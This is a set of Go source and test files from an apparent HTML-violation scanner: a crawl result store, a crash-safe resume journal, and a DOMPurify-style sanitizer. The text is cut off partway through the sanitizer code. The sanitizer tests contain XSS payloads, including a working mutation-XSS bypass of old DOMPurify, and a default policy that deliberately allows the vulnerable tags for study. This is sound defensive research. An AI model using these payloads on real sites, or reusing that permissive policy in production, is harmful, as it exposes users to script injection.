func (s *Store) Crawls() []string {
	s.mu.RLock()
	defer s.mu.RUnlock()
	out := make([]string, 0, len(s.data))
	for c := range s.data {
		out = append(out, c)
	}
	sort.Strings(out)
	return out
}

// Domains returns the domain results of one crawl, domain-sorted.
func (s *Store) Domains(crawl string) []*DomainResult {
	s.mu.RLock()
	defer s.mu.RUnlock()
	m := s.data[crawl]
	out := make([]*DomainResult, 0, len(m))
	for _, r := range m {
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Domain < out[j].Domain })
	return out
}

// ForEach visits every result (all crawls) without copying; the callback
// must not mutate results or call back into the store.
func (s *Store) ForEach(f func(*DomainResult)) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	for _, m := range s.data {
		for _, r := range m {
			f(r)
		}
	}
}

// Len reports the total number of domain results.
func (s *Store) Len() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	n := 0
	for _, m := range s.data {
		n += len(m)
	}
	return n
}

// WriteTo persists the store as JSONL (one DomainResult per line).
func (s *Store) WriteTo(w io.Writer) (int64, error) {
	bw := bufio.NewWriter(w)
	var n int64
	var err error
	s.mu.RLock()
	crawls := make([]string, 0, len(s.data))
	for c := range s.data {
		crawls = append(crawls, c)
	}
	sort.Strings(crawls)
	for _, c := range crawls {
		domains := make([]string, 0, len(s.data[c]))
		for d := range s.data[c] {
			domains = append(domains, d)
		}
		sort.Strings(domains)
		for _, d := range domains {
			var line []byte
			line, err = json.Marshal(s.data[c][d])
			if err != nil {
				break
			}
			var m int
			m, err = bw.Write(append(line, '\n'))
			n += int64(m)
			if err != nil {
				break
			}
		}
		if err != nil {
			break
		}
	}
	s.mu.RUnlock()
	if err != nil {
		return n, err
	}
	return n, bw.Flush()
}

// Read loads a JSONL dump into a new store.
func Read(r io.Reader) (*Store, error) {
	s := New()
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64<<10), 4<<20)
	line := 0
	for sc.Scan() {
		line++
		if len(sc.Bytes()) == 0 {
			continue
		}
		var dr DomainResult
		if err := json.Unmarshal(sc.Bytes(), &dr); err != nil {
			return nil, fmt.Errorf("store: line %d: %w", line, err)
		}
		s.Put(&dr)
	}
	return s, sc.Err()
}

// Save writes the store to a file.
func (s *Store) Save(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if _, err := s.WriteTo(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// Load reads a store from a file.
func Load(path string) (*Store, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return Read(f)
}
