package store

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"sync"
)

// The resume journal is the crash-safety layer of a multi-day crawl: an
// append-only log next to the result store recording every finished
// (crawl, domain) pair — successes with their full DomainResult,
// failures with their error class and whatever partial work happened.
// On restart, `hvcrawl -resume` replays the journal: completed pairs
// are skipped, their results re-enter the store and the snapshot stats,
// and the run continues exactly where the crash cut it off.
//
// Format: one header line ("#hvscan-journal v1") followed by one JSON
// entry per line. Each entry is written in a single write(2), so a
// crash can leave at most one torn line — at the tail — which the
// reader silently drops. Any other malformation means the file is not
// a journal (or was corrupted at rest) and reading fails with
// ErrCorruptJournal; callers degrade to starting fresh with a warning,
// never a panic (see FuzzReadJournal).

// JournalHeader is the versioned first line of a resume journal.
const JournalHeader = "#hvscan-journal v1"

// ErrCorruptJournal reports a journal that cannot be trusted: wrong
// header, or a malformed line before the final one.
var ErrCorruptJournal = errors.New("store: corrupt resume journal")

// JournalEntry records one finished (crawl, domain) pair.
type JournalEntry struct {
	Crawl  string `json:"crawl"`
	Domain string `json:"domain"`
	// Failed marks a domain that exhausted its retries or hit a
	// permanent fault; Class and Error describe why.
	Failed bool   `json:"failed,omitempty"`
	Class  string `json:"class,omitempty"`
	Error  string `json:"error,omitempty"`
	// Result carries the measured aggregate — complete for successes,
	// partial (the pages finished before the fault) for failures — so a
	// resumed run reconstructs stats without re-crawling.
	Result *DomainResult `json:"result,omitempty"`
}

// ReadJournal parses a journal stream. It returns the entries, plus how
// many trailing torn lines were dropped (0 or 1: the crash-truncated
// tail). A missing/short stream yields no entries and no error; a wrong
// header or malformed interior line returns ErrCorruptJournal.
func ReadJournal(r io.Reader) (entries []JournalEntry, dropped int, err error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64<<10), 4<<20)
	if !sc.Scan() {
		if err := sc.Err(); err != nil {
			return nil, 0, err
		}
		return nil, 0, nil // empty file: a fresh journal
	}
	if sc.Text() != JournalHeader {
		return nil, 0, fmt.Errorf("%w: bad header %.40q", ErrCorruptJournal, sc.Text())
	}
	line := 1
	pendingBad := 0 // malformed lines seen; tolerable only at the tail
	for sc.Scan() {
		line++
		if len(sc.Bytes()) == 0 {
			continue
		}
		var e JournalEntry
		if jerr := json.Unmarshal(sc.Bytes(), &e); jerr != nil || e.Crawl == "" || e.Domain == "" {
			pendingBad++
			continue
		}
		if pendingBad > 0 {
			// A valid entry after a malformed line: the damage is in the
			// middle of the file, not a torn tail.
			return nil, 0, fmt.Errorf("%w: malformed line %d", ErrCorruptJournal, line-1)
		}
		entries = append(entries, e)
	}
	if err := sc.Err(); err != nil {
		return nil, 0, err
	}
	if pendingBad > 1 {
		// More than one bad line cannot come from a single torn write.
		return nil, 0, fmt.Errorf("%w: %d malformed trailing lines", ErrCorruptJournal, pendingBad)
	}
	return entries, pendingBad, nil
}

// Journal is an open resume journal: an in-memory index of completed
// pairs plus an append handle. Safe for concurrent use.
type Journal struct {
	mu   sync.Mutex
	f    *os.File
	done map[string]*JournalEntry
	path string
}

func journalKey(crawl, domain string) string { return crawl + "\x00" + domain }

// OpenJournal opens (or creates) the journal at path and replays its
// entries. A corrupt journal is moved aside to path+".corrupt" and a
// fresh one started; warn describes what happened and is empty on a
// clean open. Only I/O-level failures return a non-nil error.
func OpenJournal(path string) (j *Journal, warn string, err error) {
	entries, dropped, rerr := readJournalFile(path)
	if rerr != nil {
		if !errors.Is(rerr, ErrCorruptJournal) {
			return nil, "", rerr
		}
		// Corrupt: preserve the evidence, start fresh.
		if mvErr := os.Rename(path, path+".corrupt"); mvErr != nil && !os.IsNotExist(mvErr) {
			return nil, "", fmt.Errorf("store: quarantining corrupt journal: %w", mvErr)
		}
		warn = fmt.Sprintf("journal %s is corrupt (%v); starting fresh (old file kept as %s.corrupt)",
			path, rerr, path)
		entries = nil
	} else if dropped > 0 {
		warn = fmt.Sprintf("journal %s: dropped %d torn trailing line(s) from an interrupted write", path, dropped)
	}

	done := make(map[string]*JournalEntry, len(entries))
	for i := range entries {
		e := &entries[i]
		done[journalKey(e.Crawl, e.Domain)] = e
	}

	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, "", err
	}
	j = &Journal{f: f, done: done, path: path}
	if len(entries) == 0 {
		// New or quarantined: (re)write the header. The file may hold a
		// headerless fragment if it was corrupt but unmovable; truncate.
		if err := f.Truncate(0); err != nil {
			f.Close()
			return nil, "", err
		}
		if _, err := f.Write([]byte(JournalHeader + "\n")); err != nil {
			f.Close()
			return nil, "", err
		}
	} else if dropped > 0 {
		// Drop the torn tail from disk too, so the file and the index
		// agree byte-for-byte.
		if err := j.rewrite(entries); err != nil {
			f.Close()
			return nil, "", err
		}
	}
	return j, warn, nil
}

// readJournalFile reads path; a missing file is an empty journal.
func readJournalFile(path string) ([]JournalEntry, int, error) {
	f, err := os.Open(path)
	if err != nil {
		if os.IsNotExist(err) {
			return nil, 0, nil
		}
		return nil, 0, err
	}
	defer f.Close()
	return ReadJournal(f)
}

// rewrite replaces the file's contents with header + entries. Caller
// must be the sole writer (OpenJournal, before concurrent use).
func (j *Journal) rewrite(entries []JournalEntry) error {
	if err := j.f.Truncate(0); err != nil {
		return err
	}
	if _, err := j.f.Seek(0, io.SeekStart); err != nil {
		return err
	}
	buf := make([]byte, 0, 256*len(entries))
	buf = append(buf, JournalHeader+"\n"...)
	for i := range entries {
		line, err := json.Marshal(&entries[i])
		if err != nil {
			return err
		}
		buf = append(buf, line...)
		buf = append(buf, '\n')
	}
	_, err := j.f.Write(buf)
	return err
}

// Record appends one completion entry and indexes it. The line goes out
// in a single write, so an interrupted Record leaves only a torn tail
// that the next OpenJournal drops.
func (j *Journal) Record(e JournalEntry) error {
	if e.Crawl == "" || e.Domain == "" {
		return fmt.Errorf("store: journal entry needs crawl and domain: %+v", e)
	}
	line, err := json.Marshal(&e)
	if err != nil {
		return err
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	if _, err := j.f.Write(append(line, '\n')); err != nil {
		return err
	}
	j.done[journalKey(e.Crawl, e.Domain)] = &e
	return nil
}

// Done reports whether the pair already completed (in this run or a
// journaled previous one).
func (j *Journal) Done(crawl, domain string) bool {
	j.mu.Lock()
	defer j.mu.Unlock()
	_, ok := j.done[journalKey(crawl, domain)]
	return ok
}

// Entry returns the completion record for the pair, if present. The
// returned entry is a copy; mutating it does not touch the journal.
func (j *Journal) Entry(crawl, domain string) (JournalEntry, bool) {
	j.mu.Lock()
	defer j.mu.Unlock()
	e, ok := j.done[journalKey(crawl, domain)]
	if !ok {
		return JournalEntry{}, false
	}
	return *e, true
}

// Len reports how many pairs the journal records.
func (j *Journal) Len() int {
	j.mu.Lock()
	defer j.mu.Unlock()
	return len(j.done)
}

// Path returns the journal's file path.
func (j *Journal) Path() string { return j.path }

// Sync flushes the journal to stable storage.
func (j *Journal) Sync() error {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.f.Sync()
}

// Close syncs and closes the journal file.
func (j *Journal) Close() error {
	j.mu.Lock()
	defer j.mu.Unlock()
	if err := j.f.Sync(); err != nil {
		j.f.Close()
		return err
	}
	return j.f.Close()
}
