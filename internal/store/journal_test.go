package store

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func tmpJournal(t *testing.T) string {
	t.Helper()
	return filepath.Join(t.TempDir(), "results.jsonl.journal")
}

func TestJournalRoundTrip(t *testing.T) {
	path := tmpJournal(t)
	j, warn, err := OpenJournal(path)
	if err != nil || warn != "" {
		t.Fatalf("open fresh: err=%v warn=%q", err, warn)
	}
	entries := []JournalEntry{
		{Crawl: "CC-2015", Domain: "a.example", Result: &DomainResult{
			Crawl: "CC-2015", Domain: "a.example", PagesFound: 4, PagesAnalyzed: 3,
			Violations: map[string]int{"DE1": 2},
		}},
		{Crawl: "CC-2015", Domain: "b.example", Failed: true, Class: "retryable",
			Error: "fetch: timeout", Result: &DomainResult{Crawl: "CC-2015", Domain: "b.example", PagesFound: 4, PagesAnalyzed: 1}},
		{Crawl: "CC-2016", Domain: "a.example", Result: &DomainResult{Crawl: "CC-2016", Domain: "a.example"}},
	}
	for _, e := range entries {
		if err := j.Record(e); err != nil {
			t.Fatal(err)
		}
	}
	if !j.Done("CC-2015", "b.example") || j.Done("CC-2015", "zzz") {
		t.Fatal("Done lookup wrong")
	}
	if err := j.Close(); err != nil {
		t.Fatal(err)
	}

	// Reopen: everything replays.
	j2, warn, err := OpenJournal(path)
	if err != nil || warn != "" {
		t.Fatalf("reopen: err=%v warn=%q", err, warn)
	}
	defer j2.Close()
	if j2.Len() != 3 {
		t.Fatalf("replayed %d entries, want 3", j2.Len())
	}
	e, ok := j2.Entry("CC-2015", "a.example")
	if !ok || e.Result == nil || e.Result.PagesAnalyzed != 3 || e.Result.Violations["DE1"] != 2 {
		t.Fatalf("replayed entry lost data: %+v", e)
	}
	f, ok := j2.Entry("CC-2015", "b.example")
	if !ok || !f.Failed || f.Class != "retryable" || f.Result.PagesAnalyzed != 1 {
		t.Fatalf("failure entry lost data: %+v", f)
	}
}

func TestJournalTornTailDropped(t *testing.T) {
	path := tmpJournal(t)
	j, _, err := OpenJournal(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := j.Record(JournalEntry{Crawl: "c", Domain: "d1"}); err != nil {
		t.Fatal(err)
	}
	j.Close()

	// Simulate a crash mid-append: a torn, incomplete final line.
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(`{"crawl":"c","domain":"d2","res`)
	f.Close()

	j2, warn, err := OpenJournal(path)
	if err != nil {
		t.Fatalf("torn tail must not fail open: %v", err)
	}
	defer j2.Close()
	if !strings.Contains(warn, "torn") {
		t.Fatalf("want torn-line warning, got %q", warn)
	}
	if j2.Len() != 1 || !j2.Done("c", "d1") || j2.Done("c", "d2") {
		t.Fatalf("torn line leaked into the index: len=%d", j2.Len())
	}
	// The tail was also dropped on disk: a third open is clean.
	j2.Close()
	_, warn, err = OpenJournal(path)
	if err != nil || warn != "" {
		t.Fatalf("rewrite left damage: err=%v warn=%q", err, warn)
	}
}

func TestJournalCorruptStartsFreshWithWarning(t *testing.T) {
	path := tmpJournal(t)
	// Interior corruption: bad line followed by a valid one.
	body := JournalHeader + "\n" +
		"this is not json\n" +
		`{"crawl":"c","domain":"d"}` + "\n"
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	j, warn, err := OpenJournal(path)
	if err != nil {
		t.Fatalf("corrupt journal must degrade, not fail: %v", err)
	}
	defer j.Close()
	if warn == "" || !strings.Contains(warn, "corrupt") {
		t.Fatalf("want corruption warning, got %q", warn)
	}
	if j.Len() != 0 {
		t.Fatalf("corrupt journal must start fresh, has %d entries", j.Len())
	}
	if _, err := os.Stat(path + ".corrupt"); err != nil {
		t.Fatalf("corrupt journal not quarantined: %v", err)
	}
	// And the fresh journal works.
	if err := j.Record(JournalEntry{Crawl: "c", Domain: "d"}); err != nil {
		t.Fatal(err)
	}
}

func TestJournalBadHeaderIsCorrupt(t *testing.T) {
	_, _, err := ReadJournal(strings.NewReader("not a journal\n{}\n"))
	if !errors.Is(err, ErrCorruptJournal) {
		t.Fatalf("err = %v, want ErrCorruptJournal", err)
	}
}

func TestJournalEmptyFileIsFresh(t *testing.T) {
	entries, dropped, err := ReadJournal(strings.NewReader(""))
	if err != nil || len(entries) != 0 || dropped != 0 {
		t.Fatalf("empty journal: %v %d %v", entries, dropped, err)
	}
}

func TestJournalRecordRejectsAnonymousEntries(t *testing.T) {
	j, _, err := OpenJournal(tmpJournal(t))
	if err != nil {
		t.Fatal(err)
	}
	defer j.Close()
	if err := j.Record(JournalEntry{Crawl: "c"}); err == nil {
		t.Fatal("entry without domain accepted")
	}
}

// FuzzReadJournal: whatever bytes are on disk, reading must never
// panic, and a nil error implies every entry is well-keyed. This is the
// guarantee behind "a corrupt resume journal degrades to start-fresh".
func FuzzReadJournal(f *testing.F) {
	f.Add([]byte(""))
	f.Add([]byte(JournalHeader + "\n"))
	f.Add([]byte(JournalHeader + "\n" + `{"crawl":"c","domain":"d"}` + "\n"))
	f.Add([]byte(JournalHeader + "\n" + `{"crawl":"c","domain":"d","failed":true,"class":"retryable","error":"x","result":{"crawl":"c","domain":"d","pages_found":3}}` + "\n"))
	f.Add([]byte(JournalHeader + "\n" + `{"crawl":"c"` /* torn */))
	f.Add([]byte("garbage header\n"))
	f.Add([]byte(JournalHeader + "\nnull\n{}\n[]\n"))
	f.Add([]byte("\x00\xff\xfe"))
	f.Fuzz(func(t *testing.T, data []byte) {
		entries, dropped, err := ReadJournal(strings.NewReader(string(data)))
		if err != nil {
			return // corrupt is a fine outcome; panicking is not
		}
		if dropped < 0 || dropped > 1 {
			t.Fatalf("dropped = %d, want 0 or 1", dropped)
		}
		for _, e := range entries {
			if e.Crawl == "" || e.Domain == "" {
				t.Fatalf("accepted entry without key: %+v", e)
			}
		}
	})
}

func TestJournalOpenZeroByteFile(t *testing.T) {
	path := tmpJournal(t)
	// A crash between create and the header write leaves a 0-byte file;
	// resume must treat it as a fresh journal, not corruption.
	if err := os.WriteFile(path, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	j, warn, err := OpenJournal(path)
	if err != nil || warn != "" {
		t.Fatalf("zero-byte journal: err=%v warn=%q", err, warn)
	}
	if j.Len() != 0 {
		t.Fatalf("zero-byte journal has %d entries", j.Len())
	}
	if err := j.Record(JournalEntry{Crawl: "c", Domain: "d"}); err != nil {
		t.Fatal(err)
	}
	j.Close()
	j2, warn, err := OpenJournal(path)
	if err != nil || warn != "" {
		t.Fatalf("reopen after zero-byte recovery: err=%v warn=%q", err, warn)
	}
	defer j2.Close()
	if !j2.Done("c", "d") {
		t.Fatal("entry recorded into a recovered zero-byte journal was lost")
	}
}

func TestJournalOnlyTornTail(t *testing.T) {
	path := tmpJournal(t)
	// Header plus a single torn line and nothing else: the very first
	// Record of a run was interrupted. Distinct from the torn-tail case
	// with prior entries because replay has zero entries to rewrite.
	body := JournalHeader + "\n" + `{"crawl":"c","domain":"d","res`
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	j, warn, err := OpenJournal(path)
	if err != nil {
		t.Fatalf("torn-only journal must not fail open: %v", err)
	}
	if !strings.Contains(warn, "torn") {
		t.Fatalf("want torn warning, got %q", warn)
	}
	if j.Len() != 0 || j.Done("c", "d") {
		t.Fatalf("torn line leaked into the index: len=%d", j.Len())
	}
	j.Close()
	// The tail is gone from disk: the file is exactly a fresh journal.
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != JournalHeader+"\n" {
		t.Fatalf("disk not reset to a fresh journal: %q", data)
	}
	if _, warn, err := OpenJournal(path); err != nil || warn != "" {
		t.Fatalf("third open not clean: err=%v warn=%q", err, warn)
	}
}

func TestJournalResumeAfterQuarantine(t *testing.T) {
	path := tmpJournal(t)
	corrupt := "not a journal at all\n" + `{"crawl":"c","domain":"old"}` + "\n"
	if err := os.WriteFile(path, []byte(corrupt), 0o644); err != nil {
		t.Fatal(err)
	}
	j, warn, err := OpenJournal(path)
	if err != nil {
		t.Fatalf("corrupt journal must degrade, not fail: %v", err)
	}
	if !strings.Contains(warn, "corrupt") {
		t.Fatalf("want corruption warning, got %q", warn)
	}
	// The evidence is preserved byte-for-byte.
	kept, err := os.ReadFile(path + ".corrupt")
	if err != nil {
		t.Fatalf("quarantine file missing: %v", err)
	}
	if string(kept) != corrupt {
		t.Fatalf("quarantine altered the evidence: %q", kept)
	}
	// The run proceeds on the fresh journal...
	if err := j.Record(JournalEntry{Crawl: "c", Domain: "d1", Result: &DomainResult{Crawl: "c", Domain: "d1"}}); err != nil {
		t.Fatal(err)
	}
	j.Close()
	// ...and the NEXT resume replays it cleanly, quarantine intact.
	j2, warn, err := OpenJournal(path)
	if err != nil || warn != "" {
		t.Fatalf("resume after quarantine: err=%v warn=%q", err, warn)
	}
	defer j2.Close()
	if j2.Len() != 1 || !j2.Done("c", "d1") {
		t.Fatalf("post-quarantine entries lost: len=%d", j2.Len())
	}
	if j2.Done("c", "old") {
		t.Fatal("quarantined entry leaked into the fresh journal")
	}
	if _, err := os.Stat(path + ".corrupt"); err != nil {
		t.Fatalf("quarantine file lost across resume: %v", err)
	}
}
