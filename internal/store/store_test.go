package store

import (
	"bytes"
	"fmt"
	"strings"
	"sync"
	"testing"
)

func sample(crawl, domain string, violations map[string]int) *DomainResult {
	return &DomainResult{
		Crawl: crawl, Domain: domain,
		PagesFound: 10, PagesAnalyzed: 9,
		Violations: violations,
		Signals:    map[string]int{SignalUsesMath: 1},
	}
}

func TestPutGet(t *testing.T) {
	s := New()
	s.Put(sample("c1", "a.example", map[string]int{"FB2": 3}))
	s.Put(sample("c1", "b.example", nil))
	s.Put(sample("c2", "a.example", map[string]int{"DM3": 1}))

	if got := s.Get("c1", "a.example"); got == nil || got.Violations["FB2"] != 3 {
		t.Fatalf("Get = %+v", got)
	}
	if s.Get("c1", "missing") != nil {
		t.Fatal("phantom result")
	}
	if got := s.Crawls(); len(got) != 2 || got[0] != "c1" {
		t.Fatalf("Crawls = %v", got)
	}
	if got := s.Domains("c1"); len(got) != 2 || got[0].Domain != "a.example" {
		t.Fatalf("Domains = %v", got)
	}
	if s.Len() != 3 {
		t.Fatalf("Len = %d", s.Len())
	}
	n := 0
	s.ForEach(func(*DomainResult) { n++ })
	if n != 3 {
		t.Fatalf("ForEach visited %d", n)
	}
}

func TestViolatedAnalyzed(t *testing.T) {
	d := sample("c", "d", map[string]int{"FB1": 0})
	if d.Violated() {
		t.Fatal("zero-count violation counted")
	}
	d.Violations["FB1"] = 1
	if !d.Violated() {
		t.Fatal("violation missed")
	}
	d.PagesAnalyzed = 0
	if d.Analyzed() {
		t.Fatal("unanalyzed domain reported analyzed")
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	s := New()
	for i := 0; i < 50; i++ {
		s.Put(sample("c1", fmt.Sprintf("d%02d.example", i), map[string]int{"FB2": i}))
	}
	var buf bytes.Buffer
	if _, err := s.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	// Deterministic output: sorted by crawl then domain.
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 50 {
		t.Fatalf("lines = %d", len(lines))
	}
	if !strings.Contains(lines[0], "d00.example") || !strings.Contains(lines[49], "d49.example") {
		t.Fatalf("order wrong: first %q last %q", lines[0], lines[49])
	}
	s2, err := Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if s2.Len() != 50 {
		t.Fatalf("read back %d", s2.Len())
	}
	if got := s2.Get("c1", "d07.example"); got == nil || got.Violations["FB2"] != 7 {
		t.Fatalf("Get after read = %+v", got)
	}

	if _, err := Read(strings.NewReader("{broken json")); err == nil {
		t.Fatal("bad JSONL accepted")
	}
}

func TestSaveLoad(t *testing.T) {
	s := New()
	s.Put(sample("c1", "a.example", map[string]int{"HF4": 2}))
	path := t.TempDir() + "/r.jsonl"
	if err := s.Save(path); err != nil {
		t.Fatal(err)
	}
	s2, err := Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if s2.Get("c1", "a.example").Violations["HF4"] != 2 {
		t.Fatal("load mismatch")
	}
	if _, err := Load(path + ".missing"); err == nil {
		t.Fatal("missing file loaded")
	}
}

// TestConcurrentWriters: the pipeline writes from many goroutines.
func TestConcurrentWriters(t *testing.T) {
	s := New()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				s.Put(sample(fmt.Sprintf("c%d", w%3), fmt.Sprintf("d%d-%d", w, i), nil))
				_ = s.Len()
				_ = s.Crawls()
			}
		}(w)
	}
	wg.Wait()
	if s.Len() != 8*200 {
		t.Fatalf("Len = %d", s.Len())
	}
}

func TestCrawlStatsAvgPages(t *testing.T) {
	s := CrawlStats{Analyzed: 4, PagesAnalyzed: 30}
	if got := s.AvgPages(); got != 7.5 {
		t.Fatalf("AvgPages = %f", got)
	}
	if (CrawlStats{}).AvgPages() != 0 {
		t.Fatal("zero division")
	}
}
