package sanitizer

import (
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

func sanitize(t *testing.T, in string) string {
	t.Helper()
	out, err := New(nil).Sanitize(in)
	if err != nil {
		t.Fatalf("Sanitize: %v", err)
	}
	return out
}

func TestSanitizeRemovesScript(t *testing.T) {
	out := sanitize(t, `<p>hi</p><script>alert(1)</script><b>ok</b>`)
	if strings.Contains(out, "script") || strings.Contains(out, "alert") {
		t.Fatalf("script survived: %q", out)
	}
	if !strings.Contains(out, "<p>hi</p>") || !strings.Contains(out, "<b>ok</b>") {
		t.Fatalf("benign content lost: %q", out)
	}
}

func TestSanitizeRemovesEventHandlers(t *testing.T) {
	out := sanitize(t, `<img src="/x.png" onerror="alert(1)" alt="a">`)
	if strings.Contains(out, "onerror") {
		t.Fatalf("event handler survived: %q", out)
	}
	if !strings.Contains(out, `src="/x.png"`) || !strings.Contains(out, `alt="a"`) {
		t.Fatalf("allowed attrs lost: %q", out)
	}
}

func TestSanitizeBlocksScriptURLs(t *testing.T) {
	for _, in := range []string{
		`<a href="javascript:alert(1)">x</a>`,
		`<a href="JaVaScRiPt:alert(1)">x</a>`,
		"<a href=\"javascript:alert(1)\">x</a>",
		`<a href=" javascript:alert(1)">x</a>`,
	} {
		out := sanitize(t, in)
		if strings.Contains(strings.ToLower(out), "script:") {
			t.Fatalf("script URL survived %q: %q", in, out)
		}
	}
	out := sanitize(t, `<a href="https://example.org/">x</a>`)
	if !strings.Contains(out, `href="https://example.org/"`) {
		t.Fatalf("benign URL lost: %q", out)
	}
}

func TestSanitizeKeepsContentOfRemovedElements(t *testing.T) {
	out := sanitize(t, `<section><p>inside</p></section>`)
	if strings.Contains(out, "section") {
		t.Fatalf("disallowed element survived: %q", out)
	}
	if !strings.Contains(out, "<p>inside</p>") {
		t.Fatalf("children lost: %q", out)
	}
	// Nested disallowed content must be cleaned before hoisting.
	out = sanitize(t, `<section><video onloadstart="x()"><p>deep</p></video></section>`)
	if strings.Contains(out, "video") || strings.Contains(out, "onloadstart") {
		t.Fatalf("nested disallowed content survived: %q", out)
	}
	if !strings.Contains(out, "<p>deep</p>") {
		t.Fatalf("deep content lost: %q", out)
	}
}

// TestMutationXSSBypass reproduces the paper's Figure 1: the sanitized
// output is harmless as sanitized but arms an XSS payload when the browser
// parses it a second time. The sanitizer behaves exactly like the
// historical DOMPurify < 2.1 (its policy allows math/mglyph/style), and
// our spec parser reproduces the namespace mutation.
func TestMutationXSSBypass(t *testing.T) {
	payload := `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`
	clean := sanitize(t, payload)

	armed := func(html string) bool {
		res, err := htmlparse.ParseFragment([]byte(html), "div")
		if err != nil {
			t.Fatal(err)
		}
		return res.Doc.Find(func(n *htmlparse.Node) bool {
			if n.Type != htmlparse.ElementNode || n.Data != "img" {
				return false
			}
			_, ok := n.LookupAttr("onerror")
			return ok
		}) != nil
	}
	// The output must not contain a live payload as a string...
	if strings.Contains(clean, "<img src=1 onerror") && !strings.Contains(clean, "title=") {
		t.Fatalf("payload escaped the attribute before re-parse: %q", clean)
	}
	// ...but the browser's re-parse of the sanitized output arms it —
	// mutation XSS.
	if !armed(clean) {
		t.Fatalf("expected the DOMPurify<2.1-style bypass to arm on re-parse; clean output was %q", clean)
	}
}

// TestHardenedPolicyStopsBypass shows the post-fix behaviour: dropping the
// MathML tags from the allowlist (DOMPurify's actual fix direction)
// defuses the Figure 1 payload.
func TestHardenedPolicyStopsBypass(t *testing.T) {
	p := DefaultPolicy()
	delete(p.AllowedTags, "math")
	delete(p.AllowedTags, "mtext")
	delete(p.AllowedTags, "mglyph")
	delete(p.AllowedTags, "style")
	s := New(p)
	payload := `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`
	clean, err := s.Sanitize(payload)
	if err != nil {
		t.Fatal(err)
	}
	res, err := htmlparse.ParseFragment([]byte(clean), "div")
	if err != nil {
		t.Fatal(err)
	}
	evil := res.Doc.Find(func(n *htmlparse.Node) bool {
		if n.Type != htmlparse.ElementNode || n.Data != "img" {
			return false
		}
		_, ok := n.LookupAttr("onerror")
		return ok
	})
	if evil != nil {
		t.Fatalf("hardened policy still bypassed: %q", clean)
	}
}

func TestSanitizeIdempotentOnCleanInput(t *testing.T) {
	in := `<p>hello <b>world</b> <a href="/x">link</a></p>`
	once := sanitize(t, in)
	twice := sanitize(t, once)
	if once != twice {
		t.Fatalf("not idempotent: %q vs %q", once, twice)
	}
}
