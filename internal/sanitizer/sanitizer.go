// Package sanitizer is a small allowlist HTML sanitizer built on the
// project's own parser, in the mold of DOMPurify: parse the untrusted
// fragment, drop everything outside the allowlist, serialize. It exists to
// demonstrate — end to end, through this repository's parser — *why* the
// paper's HF violations are security-relevant: a sanitizer necessarily
// trusts that its parse equals the browser's second parse, and the
// error-tolerant mutations break exactly that assumption (paper Figure 1).
package sanitizer

import (
	"strings"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Policy is an element/attribute allowlist.
type Policy struct {
	// AllowedTags maps lowercase tag names to permission.
	AllowedTags map[string]bool
	// AllowedAttrs maps lowercase attribute names to permission.
	AllowedAttrs map[string]bool
	// KeepContent controls whether a removed element's children survive
	// (DOMPurify's KEEP_CONTENT); script/style content never survives.
	KeepContent bool
}

// DefaultPolicy mirrors a typical rich-text profile — including the MathML
// tags whose presence enabled the historical DOMPurify bypasses.
func DefaultPolicy() *Policy {
	return &Policy{
		AllowedTags: set(
			"a", "b", "blockquote", "br", "caption", "code", "div", "em",
			"h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "li",
			"ol", "p", "pre", "s", "small", "span", "strong", "sub", "sup",
			"table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
			// The foreign-content tags DOMPurify < 2.1 allowed:
			"math", "mtext", "mglyph", "mi", "mo", "mn", "ms", "mrow",
			"svg", "g", "circle", "rect", "path", "style",
		),
		AllowedAttrs: set(
			"alt", "class", "colspan", "height", "href", "id", "rowspan",
			"src", "title", "width", "d", "r", "cx", "cy", "viewbox",
		),
		KeepContent: true,
	}
}

func set(names ...string) map[string]bool {
	m := make(map[string]bool, len(names))
	for _, n := range names {
		m[n] = true
	}
	return m
}

// Sanitizer cleans untrusted HTML fragments.
type Sanitizer struct {
	policy *Policy
}

// New returns a sanitizer with the given policy (nil = DefaultPolicy).
func New(policy *Policy) *Sanitizer {
	if policy == nil {
		policy = DefaultPolicy()
	}
	return &Sanitizer{policy: policy}
}

// Sanitize parses the fragment as a browser's innerHTML would, prunes it
// to the allowlist, and serializes the remains. The output contains no
// disallowed elements, no event handlers and no script-scheme URLs — *as
// parsed this time*. Whether it stays harmless when the browser parses it
// again is precisely the mutation XSS question.
func (s *Sanitizer) Sanitize(input string) (string, error) {
